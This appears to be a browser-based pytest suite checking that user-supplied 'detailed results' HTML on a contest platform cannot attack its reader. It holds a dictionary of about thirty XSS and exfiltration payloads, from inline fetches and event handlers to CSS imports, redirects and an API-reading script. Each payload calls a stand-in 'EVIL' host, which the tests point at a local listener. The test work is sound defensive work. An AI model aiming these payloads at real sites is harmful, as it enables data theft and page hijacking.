"""Detailed results that attack their reader, in a real browser: each is stopped, by either of two walls alone."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, sync_playwright
from sqlalchemy import update

from medici_platform.challenges.html import DETAILED_RESULTS_POLICY, clean_detailed_results
from medici_platform.runs.models import Run
from tests.e2e.test_browser import FLAGS
from tests.factories.platform import running_platform
from tests.integration.platform.boards import contest
from tests.integration.platform.page_client import PageClient

pytestmark = pytest.mark.slow

LOOK_MS = 400
"""How long a page may take to do harm after it has been loaded."""

ATTACKS = {
    "inline script": "<script>fetch('EVIL')</script>",
    "script from elsewhere": "<script src='EVIL'></script>",
    "image from elsewhere": "<img src='EVIL'>",
    "handler of an image": "<img src='data:,' onerror=\"new Image().src='EVIL'\">",
    "handler of a drawing": "<svg onload=\"new Image().src='EVIL'\"></svg>",
    "script in a drawing": "<svg><script>new Image().src='EVIL'</script></svg>",
    "image in a drawing": "<svg width=9 height=9><image href='EVIL' width=9 height=9></image></svg>",
    "handler of the body": "<body onload=\"new Image().src='EVIL'\">",
    "handler of a field": "<input autofocus onfocus=\"new Image().src='EVIL'\">",
    "frame": "<iframe src='EVIL'></iframe>",
    "frame with a document of its own": "<iframe srcdoc=\"<img src='EVIL'>\"></iframe>",
    "object": "<object data='EVIL'></object>",
    "embedded": "<embed src='EVIL'>",
    "style sheet": "<link rel=stylesheet href='EVIL'>",
    "imported style": "<style>@import 'EVIL';</style>",
    "picture in a style": "<p style=\"background:url('EVIL')\">x</p>",
    "style that reads a field": "<style>input[value^='a']{background:url('EVIL')}</style><input value='answer'>",
    "font": "<style>@font-face{font-family:f;src:url('EVIL')}p{font-family:f}</style><p>x</p>",
    "refresh": "<meta http-equiv=refresh content='0;url=EVIL'>",
    "base": "<base href='EVIL/'><img src='x'>",
    "form that is sent": "<form action='EVIL'><button id=press>ok</button></form>",
    "link in the frame": "<a id=press href='EVIL'>ok</a>",
    "link out of the frame": "<a id=press target=_top href='EVIL'>ok</a>",
    "link in a new window": "<a id=press target=_blank href='EVIL'>ok</a>",
    "link with a script": "<a id=press href=\"javascript:new Image().src='EVIL'\">ok</a>",
    "film": "<video src='EVIL' autoplay></video>",
    "sound": "<audio src='EVIL' autoplay></audio>",
    "script that moves the page": "<script>top.location='EVIL'</script>",
    "script that writes to the page": "<script>parent.document.title='owned'</script>",
    "script that reads the API": "<script>fetch('/api/v1/me').then(() => new Image().src='EVIL')</script>",
    "script that opens a window": "<script>open('EVIL')</script>",
}


LEFT_TO_THE_OTHER = {"link in the frame": ["the policy alone"]}
"""What one wall does not stop: a link that its reader follows stays in its frame, and the cleaning takes it out."""


class Listener(ThreadingHTTPServer):
    """Elsewhere: remembers that it was asked. It also shows a report without some of our walls."""

    daemon_threads = True
    asked = 0
    report, policy = "", ""

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def shows(self, report: str, policy: str = "") -> str:
        """Address of a page without a policy that holds the report in a frame without a sandbox."""
        self.report, self.policy = report, policy
        return f"{self.url}/page"


class _Answer(BaseHTTPRequestHandler):
    server: Listener

    def do_GET(self) -> None:
        self.server.asked += self.path.startswith("/evil")
        page = "<title>host</title><iframe src='/report' width=500 height=300></iframe>"
        body = {"/page": page, "/report": self.server.report}.get(self.path, "x").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        if self.path == "/report" and self.server.policy:
            self.send_header("Content-Security-Policy", self.server.policy)
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815 - the library's names

    def log_message(self, *_: object) -> None:
        """Says nothing."""


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Listener]:
    with Listener(("127.0.0.1", 0), _Answer) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def browser(chromium: str) -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def platform(tmp_path_factory):
    """With one submission whose detailed results alice may read; the tests write their own into it."""
    with running_platform(tmp_path_factory.mktemp("reports") / "data") as running:
        place = contest(running, phase={"detailed_results": True})
        place.submit("alice", "f1: 0.5", report={"detailed_html": "<p>x</p>"})
        yield running


@pytest.fixture
def reader(browser: Browser, platform) -> Iterator[BrowserContext]:
    """alice, signed in."""
    cookies = [{"name": each.name, "value": each.value, "url": platform.url} for each in _cookies(platform)]
    with browser.new_context(base_url=platform.url) as context:
        context.add_cookies(cookies)
        yield context


def _cookies(platform):
    return PageClient(platform, "alice").cookies.jar


CONTROLS = 6
"""How often an attack may be tried where nothing stops it, each time with more patience: a browser can be busy."""


def harm_done(
    reader: BrowserContext, elsewhere: Listener, path: str, *, has_frame: bool = True, patience: int = 1
) -> bool:
    """Load the page, press what can be pressed, and look whether anything was loaded, moved or written."""
    before = elsewhere.asked
    page = reader.new_page()
    try:
        page.goto(path, wait_until="load")
        here = page.url
        if has_frame:
            page.locator("iframe").first.scroll_into_view_if_needed()
        page.wait_for_timeout(patience * LOOK_MS)
        buttons = [button for frame in page.frames for button in frame.query_selector_all("#press")]
        for button in buttons:
            button.click(no_wait_after=True, timeout=2000)
            page.wait_for_timeout(patience * LOOK_MS)
        return elsewhere.asked > before or page.url != here or page.title() == "owned"
    except Error:
        return True  # the page was taken away while we looked at it
    finally:
        for each in reader.pages:
            each.close()


def written(platform, html: str) -> None:
    with platform.context.database.write() as session:
        session.execute(update(Run).values(detailed_html=html))


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_report_does_nothing(reader, platform, elsewhere, trust, name):
    html = ATTACKS[name].replace("EVIL", f"{elsewhere.url}/evil")
    shown = elsewhere.shows(html)
    succeeds = any(harm_done(reader, elsewhere, shown, patience=number) for number in range(1, CONTROLS + 1))
    written(platform, html)
    harm = {
        "on the submission's page": harm_done(reader, elsewhere, "/submissions/1"),
        "opened by itself": harm_done(reader, elsewhere, "/api/v1/runs/1/detailed-results", has_frame=False),
    }
    walls = {
        "the policy alone": harm_done(reader, elsewhere, elsewhere.shows(html, DETAILED_RESULTS_POLICY)),
        "the cleaning alone": harm_done(reader, elsewhere, elsewhere.shows(clean_detailed_results(html))),
    }
    trust.note_attack("detailed results", name, stopped=not any(harm.values()), succeeds_without=succeeds)
    assert succeeds
    assert [where for where, done in harm.items() if done] == []
    assert [wall for wall, done in walls.items() if done] == LEFT_TO_THE_OTHER.get(name, [])
